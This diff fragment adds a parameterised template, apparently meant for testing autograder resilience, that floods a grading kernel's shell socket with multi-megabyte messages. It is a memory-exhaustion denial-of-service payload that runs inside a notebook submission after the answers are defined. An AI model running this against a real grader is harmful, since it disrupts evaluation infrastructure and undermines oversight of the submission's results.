@@ -426,3 +426,16 @@ for _cell in _cells:
         except Exception:
             pass
 '''
+
+# Messages straight into the kernel's shell socket, addressed to the grader: {n} messages of
+# {mb} MiB each, and one message of {parts} parts of {mb} MiB. A grader that buffers what its
+# kernel sends grows by gigabytes; the submission still defines every answer first.
+FLOOD = r'''
+_kernel = get_ipython().kernel
+_ident = _kernel._parent_ident["shell"]
+_sock = _kernel.shell_stream.socket
+_blob = b"x" * ({mb} * 2**20)
+for _ in range({n}):
+    _sock.send_multipart([*_ident, _blob])
+_sock.send_multipart([*_ident] + [_blob] * {parts})
+'''
